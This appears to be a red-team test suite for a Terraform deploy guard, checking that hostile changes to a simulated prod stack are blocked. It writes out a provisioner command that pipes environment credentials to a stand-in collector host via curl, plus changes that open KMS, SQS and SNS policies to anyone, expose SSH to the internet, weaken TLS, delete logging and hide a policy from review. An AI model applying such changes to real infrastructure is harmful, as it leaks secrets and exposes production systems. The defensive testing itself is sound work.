import { createHash } from "node:crypto";
import { cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, expect, it } from "vitest";
import { prod } from "../../envs/prod";
import { guard, protectedList, type SynthesizedStack } from "../../scripts/lib/guard";
import { saveConfiguration } from "../../scripts/lib/plan-run";
import { summarize, type PlanSummary } from "../../scripts/lib/plan-summary";
import { renderMarkdown, renderText } from "../../scripts/lib/render-summary";
import { runOffline, type PlanJson } from "../../scripts/lib/terraform";
import { copyProject, edit, runCli, standInTerraform, type CliRun } from "../scripts/run-cli";
import { simulateDeploy } from "../support/simulated-deploy";
import { describeTerraform, synthesizedEnvironment } from "../support/terraform";

type Stack = { resource: Record<string, Record<string, Record<string, unknown>>>; removed?: unknown[] };

/** The one resource of `type` in a synthesized stack, by its logical name's prefix. */
function resourceOf(stack: Stack, type: string, prefix = ""): [string, Record<string, unknown>] {
  const found = Object.entries(stack.resource[type] ?? {}).filter(([name]) => name.startsWith(prefix));
  if (found.length !== 1) throw new Error(`expected one ${type} named ${prefix}…, found ${found.length}`);
  return found[0]!;
}

/**
 * A pull request's change to prod, written where it lands: the synthesized stack. `addOverride`,
 * a construct added anywhere, or a `removed` block all end up as these edits of `cdk.tf.json`.
 */
function changedStack(edits: (stack: Stack) => void): string {
  const dir = mkdtempSync(join(tmpdir(), "red-team-stack-"));
  cpSync(synthesizedEnvironment(prod), dir, { recursive: true });
  const stack = JSON.parse(readFileSync(join(dir, "cdk.tf.json"), "utf8")) as Stack;
  edits(stack);
  writeFileSync(join(dir, "cdk.tf.json"), JSON.stringify(stack, null, 2));
  return dir;
}

const anyonePolicy = (action: string) =>
  JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: "*", Action: action, Resource: "*" }] });

/** Rows 1 and 2: a command run with the deploy's credentials, and resources taken out of the state. */
const commandsAndRemovals = (stack: Stack) => {
  stack.resource.terraform_data = {
    innocuous: { input: "build info", provisioner: [{ "local-exec": { command: "env | curl -d @- https://collector.example" } }] },
  };
  const [flowLog] = resourceOf(stack, "aws_flow_log");
  const [association] = resourceOf(stack, "aws_wafv2_web_acl_association");
  delete stack.resource.aws_flow_log;
  delete stack.resource.aws_wafv2_web_acl_association;
  stack.removed = [
    { from: `aws_flow_log.${flowLog}`, lifecycle: { destroy: false } },
    { from: `aws_wafv2_web_acl_association.${association}`, lifecycle: { destroy: false } },
  ];
};

/** Rows 4 and 5: in-place overrides that open access, lose data or take capacity, and a policy hidden as sensitive. */
const overrides = (stack: Stack) => {
  resourceOf(stack, "aws_kms_key_policy")[1].policy = anyonePolicy("kms:*");
  resourceOf(stack, "aws_sqs_queue_policy", "messaging_queue-order-queue_policy")[1].policy = anyonePolicy("sqs:*");
  resourceOf(stack, "aws_kms_key")[1].is_enabled = false;
  resourceOf(stack, "aws_lb_listener", "load-balancer_https")[1].ssl_policy = "ELBSecurityPolicy-TLS-1-0-2015-04";
  Object.assign(resourceOf(stack, "aws_s3_bucket_public_access_block")[1], {
    block_public_acls: false,
    block_public_policy: false,
    ignore_public_acls: false,
    restrict_public_buckets: false,
  });
  resourceOf(stack, "aws_s3_bucket")[1].force_destroy = true;
  resourceOf(stack, "aws_cloudwatch_log_group")[1].retention_in_days = 1;
  resourceOf(stack, "aws_sqs_queue", "messaging_queue-order-queue_7")[1].message_retention_seconds = 60;
  Object.assign(resourceOf(stack, "aws_autoscaling_group")[1], { min_size: 0, max_size: 0, desired_capacity: 0 });
  const [group] = resourceOf(stack, "aws_security_group", "compute_");
  stack.resource.aws_vpc_security_group_ingress_rule!.debug = {
    security_group_id: `\${aws_security_group.${group}.id}`,
    cidr_ipv4: "0.0.0.0/0",
    from_port: 22,
    to_port: 22,
    ip_protocol: "tcp",
  };
  resourceOf(stack, "aws_sns_topic_policy", "messaging_")[1].policy =
    `\${sensitive(jsonencode({Version = "2012-10-17", Statement = [{Effect = "Allow", Principal = "*", Action = "sns:Publish", Resource = "*"}]}))}`;
};

/**
 * The red team's attacks on a deployed prod, each a change a tired reviewer approves after the
 * first screen of the summary. Prod is "deployed" into a simulated state, each change is planned
 * against it by real Terraform, and the guard must block every one (exit 3 on the command line).
 */
describeTerraform("a hostile change to a deployed prod", () => {
  let state: string;
  const plans = new Map<string, Promise<{ summary: PlanSummary; plan: PlanJson; stackDir: string; workdir: string }>>();
  const stackOf = (dir: string) => JSON.parse(readFileSync(join(dir, "cdk.tf.json"), "utf8")) as SynthesizedStack;
  const planned = (name: string, dir: string, planState: () => string) => {
    const promise = runOffline(dir, { state: planState(), keep: true }).then(({ plan, workdir }) => {
      const summary = summarize("prod", plan!, { list: protectedList({}), production: true, stack: stackOf(dir) });
      return { summary, plan: plan!, stackDir: dir, workdir };
    });
    promise.catch(() => undefined);
    plans.set(name, promise);
  };
  const summaryOf = async (name: string) => (await plans.get(name)!).summary;
  const firstScreen = (summary: PlanSummary) => renderText([summary], guard([summary])).split("\n\nprod")[0]!;

  /** Row 3: the apply folder holds the reviewed plan's summary beside another change's plan file. */
  let swapped: Promise<{ reviewed: CliRun; other: CliRun; marked: string }>;
  const standIn = standInTerraform();

  beforeAll(async () => {
    ({ state } = await simulateDeploy(synthesizedEnvironment(prod)));
    planned("commands", changedStack(commandsAndRemovals), () => state);
    planned("overrides", changedStack(overrides), () => state);
    // Row 7: the state of one resource of prod's, as from a backend key pointed elsewhere.
    const one = JSON.parse(state) as { resources: { type: string }[] };
    planned("elsewhere", synthesizedEnvironment(prod), () =>
      JSON.stringify({ ...one, resources: one.resources.filter((r) => r.type === "aws_vpc") }),
    );
    planned("unchanged", synthesizedEnvironment(prod), () => state);

    swapped = (async () => {
      const reviewed = await plans.get("unchanged")!;
      const hostile = await plans.get("commands")!;
      // The folder of the reviewed (unchanged) plan, whose plan file was swapped for the hostile one.
      const folder = mkdtempSync(join(tmpdir(), "swapped-"));
      saveConfiguration(hostile.stackDir, hostile.workdir, folder);
      writeFileSync(join(folder, "plan.json"), JSON.stringify(reviewed.plan));
      cpSync(join(hostile.workdir, "offline.tfplan"), join(folder, "plan.tfplan"));
      const stateDir = mkdtempSync(join(tmpdir(), "swapped-state-"));
      writeFileSync(join(stateDir, "prod.tfstate"), state);
      const marked = copyProject();
      edit(
        marked,
        "envs/prod.ts",
        "export const prod",
        `require("node:fs").writeFileSync(${JSON.stringify(join(marked, "loaded"))}, "prod");\nexport const prod`,
      );
      const args = (digest: string) => ["prod", "--apply-saved", folder, "--digest", digest, "--offline", "--state", stateDir, "--yes"];
      const env = { PATH: `${standIn.dir}:${process.env.PATH}` };
      const reviewedDigest = createHash("sha256")
        .update(readFileSync(join(reviewed.workdir, "offline.tfplan")))
        .digest("hex");
      const otherDigest = createHash("sha256")
        .update(readFileSync(join(folder, "plan.tfplan")))
        .digest("hex");
      const [r, o] = await Promise.all([
        runCli("deploy", args(reviewedDigest), { root: marked, env }),
        runCli("deploy", args(otherDigest), { root: marked, env }),
      ]);
      return { reviewed: r, other: o, marked };
    })();
    swapped.catch(() => undefined);
  });

  it("plans prod unchanged with no warning, and the guard lets it through", async () => {
    const summary = await summaryOf("unchanged");
    expect(summary.warnings).toEqual([]);
    expect(guard([summary]).blocked).toBe(false);
  });

  it("row 1: blocks a terraform_data with a local-exec provisioner, and shows the command on the first screen", async () => {
    const summary = await summaryOf("commands");
    expect(summary.risks).toEqual(
      expect.arrayContaining([
        'prod runs a local-exec provisioner on terraform_data.innocuous with the deploy\'s credentials: "env | curl -d @- https://collector.example"',
        "prod creates terraform_data.innocuous, a terraform_data: it runs commands or carries values outside AWS",
      ]),
    );
    expect(firstScreen(summary)).toContain("curl -d @- https://collector.example");
    expect(guard([summary]).blocked).toBe(true);
  });

  it("row 2: counts the flow log and the WAF association forgotten by removed blocks, and blocks", async () => {
    const summary = await summaryOf("commands");
    expect(summary.counts).toMatchObject({ forget: 2, destroy: 0 });
    expect(summary.forgets).toEqual([expect.stringMatching(/^aws_flow_log\./), expect.stringMatching(/^aws_wafv2_web_acl_association\./)]);
    expect(summary.risks.filter((r) => r.includes("(a removed block)"))).toHaveLength(2);
    expect(renderMarkdown([summary])).toMatch(/\| prod \(protected\) \| 1 \| 0 \| 0 \| 0 \| 0 \| 2 \|/);
  });

  it("row 3: --apply-saved checks the plan file, not the summary beside it: the reviewed digest exits 5, the file's own is guarded (exit 3); no project code runs, nothing is applied", async () => {
    const { reviewed, other, marked } = await swapped;
    expect(reviewed.code).toBe(5);
    expect(reviewed.stderr).toMatch(/plan\.tfplan is not the plan that was reviewed/);
    expect(other.code).toBe(3);
    expect(other.stdout).toContain("runs a local-exec provisioner on terraform_data.innocuous");
    expect(other.stdout).toContain("Nothing applied: the guard blocked the saved plan.");
    expect(standIn.applies()).toEqual([]);
    expect(existsSync(join(marked, "loaded")), "envs/prod.ts was loaded by --apply-saved").toBe(false);
  });

  it("row 4: blocks every override that opens access, loses data or takes capacity away, each named on the first screen", async () => {
    const summary = await summaryOf("overrides");
    const expected = [
      /^prod allows Principal "\*" in aws_kms_key_policy\.\S+ policy: Allow "\*": kms:\*$/,
      /^prod allows Principal "\*" in aws_sqs_queue_policy\.messaging_queue-order-queue_policy_\S+ policy: Allow "\*": sqs:\*$/,
      /^prod disables the KMS key aws_kms_key\./,
      /^prod weakens TLS on aws_lb_listener\.load-balancer_https_\S+: "ELBSecurityPolicy-TLS13-1-2-2021-06" → "ELBSecurityPolicy-TLS-1-0-2015-04"$/,
      /^prod turns S3 public access blocking off on aws_s3_bucket_public_access_block\.\S+: block_public_acls, block_public_policy, ignore_public_acls, restrict_public_buckets$/,
      /^prod turns force_destroy on for aws_s3_bucket\./,
      /^prod shortens log retention on aws_cloudwatch_log_group\.\S+: 365 → 1 days$/,
      /^prod shortens message retention on aws_sqs_queue\.messaging_queue-order-queue_7\S+: \d+ → 60 s$/,
      /^prod sets min_size of aws_autoscaling_group\.\S+ to 0 \(was 2\)$/,
      /^prod sets max_size of aws_autoscaling_group\.\S+ to 0 \(was 4\)$/,
      /^prod opens aws_vpc_security_group_ingress_rule\.debug to the internet: ingress port 22 from 0\.0\.0\.0\/0$/,
    ];
    for (const finding of expected)
      expect(
        summary.risks.filter((r) => finding.test(r)),
        finding.source,
      ).toHaveLength(1);
    const screen = firstScreen(summary);
    for (const risk of summary.risks) expect(screen).toContain(risk);
    expect(guard([summary]).blocked).toBe(true);
    // The new rule, by what it lets in, not only by its address.
    expect(renderMarkdown([summary])).toContain("- create `aws_vpc_security_group_ingress_rule.debug`: `ingress tcp 22 from 0.0.0.0/0`");
  });

  it("row 5: blocks a policy wrapped in sensitive(), which would show as (sensitive) → (sensitive)", async () => {
    const summary = await summaryOf("overrides");
    expect(summary.risks).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^prod hides aws_sns_topic_policy\.messaging_topic-policy_\S+ policy from review: it is newly marked sensitive/,
        ),
      ]),
    );
  });

  it("row 6: an owner's list that parses to nothing protects prod, and says so", async () => {
    const list = protectedList({ WEBTIER_PROTECTED_ENVIRONMENTS: "," });
    expect(list.warning).toMatch(/names no environment; protecting the default, prod, instead/);
    const { plan, stackDir } = await plans.get("overrides")!;
    const summary = summarize("prod", plan, { list, stack: stackOf(stackDir) });
    expect(summary.protection.protected).toBe(true);
    expect(guard([summary]).blocked).toBe(true);
  });

  it("row 7: blocks a plan that would create nearly all of prod against a state that holds one resource", async () => {
    const summary = await summaryOf("elsewhere");
    expect(summary.risks).toEqual([
      expect.stringMatching(
        /^prod would create \d+ of its \d+ resources although its state holds 1: a state that is not this environment's/,
      ),
    ]);
    expect(guard([summary]).blocked).toBe(true);
  });
});
